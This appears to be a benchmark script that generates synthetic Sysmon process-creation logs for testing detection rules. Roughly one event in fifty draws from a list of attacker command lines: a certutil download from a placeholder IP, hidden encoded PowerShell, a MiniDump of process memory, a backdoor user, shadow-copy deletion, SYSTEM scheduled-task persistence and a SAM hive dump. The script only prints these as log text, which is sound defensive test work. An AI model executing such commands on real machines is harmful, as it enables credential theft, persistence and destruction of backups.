#!/usr/bin/env python3
"""Writes Sysmon process creation events (event id 1) as NDJSON, the same ones for the same arguments.

    benches/events.py COUNT > events.ndjson

Most are the everyday processes of a workstation; one in fifty is what rules look for. Every event has the fields that
Sysmon gives it and some that a shipper adds, about 1.3 KB in all.
"""
import json, random, sys

SYSTEM = "C:\\Windows\\System32\\"
USERS = ["CORP\\alice", "CORP\\bob", "CORP\\svc-backup", "NT AUTHORITY\\SYSTEM", "NT AUTHORITY\\LOCAL SERVICE", "CORP\\jürgen"]
EVERYDAY = [
    (SYSTEM + "svchost.exe", "svchost.exe", "{image} -k netsvcs -p -s {word}", SYSTEM + "services.exe"),
    (SYSTEM + "conhost.exe", "CONHOST.EXE", "\\??\\{image} 0xffffffff -ForceV1", SYSTEM + "cmd.exe"),
    (SYSTEM + "RuntimeBroker.exe", "RuntimeBroker.exe", "{image} -Embedding", SYSTEM + "svchost.exe"),
    (SYSTEM + "taskhostw.exe", "taskhostw.exe", "taskhostw.exe {word}", SYSTEM + "svchost.exe"),
    (SYSTEM + "dllhost.exe", "dllhost.exe", "{image} /Processid:{{{guid}}}", SYSTEM + "svchost.exe"),
    (SYSTEM + "SearchProtocolHost.exe", "SearchProtocolHost.exe", "\"{image}\" Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipe{n} 1 -2147483646 \"Software\\Microsoft\\Windows Search\"", SYSTEM + "SearchIndexer.exe"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", "\"{image}\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n} --time-ticks-at-unix-epoch=-{n}{n} --launch-time-ticks={n}{n} --field-trial-handle={n},i,{n}{n}{n},{n}{n} --variations-seed-version /prefetch:8", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "WinWord.exe", "\"{image}\" /n \"C:\\Users\\alice\\Documents\\{word}-{n}.docx\" /o \"\"", "C:\\Windows\\explorer.exe"),
    ("C:\\Program Files\\Git\\mingw64\\bin\\git.exe", "git.exe", "git.exe -c core.quotepath=false log --max-count={n} --format=%H {word}", "C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"),
    ("C:\\Program Files\\Python312\\python.exe", "python.exe", "python.exe -m {word} --verbose --jobs {n}", SYSTEM + "cmd.exe"),
    (SYSTEM + "cmd.exe", "Cmd.Exe", "{image} /c \"cd /d C:\\build\\{word} && nmake /nologo {word}.mak\"", "C:\\Program Files\\Jenkins\\jenkins.exe"),
    (SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -NoProfile -File C:\\ops\\{word}.ps1 -Days {n}", SYSTEM + "svchost.exe"),
    (SYSTEM + "backgroundTaskHost.exe", "backgroundTaskHost.exe", "\"{image}\" -ServerName:App.AppX{guid}.mca", SYSTEM + "svchost.exe"),
    ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "msedgeupdate.dll", "\"{image}\" /ua /installsource scheduler", SYSTEM + "svchost.exe"),
]
SOUGHT = [
    (SYSTEM + "whoami.exe", "whoami.exe", "whoami /all", SYSTEM + "cmd.exe"),
    (SYSTEM + "certutil.exe", "CertUtil.exe", "certutil.exe -urlcache -split -f http://198.51.100.{b}/{word}.exe C:\\Users\\Public\\{word}.exe", SYSTEM + "cmd.exe"),
    (SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "PowerShell.EXE", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3{n}", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    (SYSTEM + "rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n} C:\\Temp\\{word}.dmp full", SYSTEM + "cmd.exe"),
    (SYSTEM + "net.exe", "net.exe", "net user {word} P@ssw0rd{n} /add", SYSTEM + "cmd.exe"),
    (SYSTEM + "vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet", SYSTEM + "cmd.exe"),
    (SYSTEM + "schtasks.exe", "schtasks.exe", "schtasks /create /tn {word} /tr C:\\Users\\Public\\{word}.bat /sc minute /ru SYSTEM", SYSTEM + "cmd.exe"),
    (SYSTEM + "reg.exe", "reg.exe", "reg save HKLM\\SAM C:\\Temp\\{word}.hiv", SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe"),
]
WORDS = ["report", "update", "inventory", "Schedule", "build", "deploy", "metrics", "invoice", "wuauserv", "BITS", "Dhcp", "überblick"]


def event(random, number):
    guid = lambda: "%08X-%04X-%04X-%04X-%012X" % tuple(random.getrandbits(bits) for bits in (32, 16, 16, 16, 48))
    image, original, line, parent = random.choice(SOUGHT if random.random() < 0.02 else EVERYDAY)
    fill = lambda text: text.format(image=image, word=random.choice(WORDS), n=random.randrange(1000, 99999), b=random.randrange(256), guid=guid())
    user, system = random.choice(USERS), random.random() < 0.3
    time = "2026-03-%02d %02d:%02d:%02d.%03d" % (1 + number // 86400 % 28, number // 3600 % 24, number // 60 % 60, number % 60, random.randrange(1000))
    return {
        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": "WS%04d.corp.example" % random.randrange(400), "EventRecordID": 100000 + number, "Level": 4, "Task": 1,
        "RuleName": "-", "UtcTime": time, "ProcessGuid": "{%s}" % guid(), "ProcessId": random.randrange(400, 30000),
        "Image": image, "FileVersion": "10.0.19041.%d (WinBuild.160101.0800)" % random.randrange(1, 4000),
        "Description": original.rsplit(".", 1)[0], "Product": "Microsoft® Windows® Operating System", "Company": "Microsoft Corporation",
        "OriginalFileName": original, "CommandLine": fill(line), "CurrentDirectory": "C:\\Windows\\system32\\" if system else "C:\\Users\\alice\\",
        "User": user, "LogonGuid": "{%s}" % guid(), "LogonId": "0x%x" % random.getrandbits(24), "TerminalSessionId": random.randrange(3),
        "IntegrityLevel": "System" if system else random.choice(["Medium", "High"]),
        "Hashes": "MD5=%032X,SHA256=%064X,IMPHASH=%032X" % (random.getrandbits(128), random.getrandbits(256), random.getrandbits(128)),
        "ParentProcessGuid": "{%s}" % guid(), "ParentProcessId": random.randrange(400, 30000), "ParentImage": parent,
        "ParentCommandLine": "\"%s\"" % parent, "ParentUser": user,
    }


def main():
    generator = random.Random(20260301)
    for number in range(int(sys.argv[1])):
        print(json.dumps(event(generator, number), ensure_ascii=False, separators=(",", ":")))


if __name__ == "__main__":
    sys.stdout.reconfigure(encoding="utf-8")
    main()
